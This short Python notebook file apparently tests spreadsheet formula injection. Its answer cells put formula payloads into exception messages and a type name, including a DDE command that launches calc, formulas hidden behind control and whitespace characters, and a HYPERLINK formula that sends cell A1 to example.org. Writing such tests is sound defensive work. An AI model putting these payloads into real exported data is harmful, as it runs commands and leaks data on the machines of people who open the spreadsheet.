"""A formula in an answer, an error or a name of a type runs in the spreadsheet that opens the table."""

# %% answer:number
raise type("=HYPERLINK(1)", (Exception,), {})("=cmd|'/c calc'!A1")


# %% answer:labels
def to_labels(rows):
    raise ValueError("\n=1+1;=2\t+3\r-4\u3000=5")


# %% [markdown] answer:why
# =HYPERLINK("https://example.org?" & A1; "click")
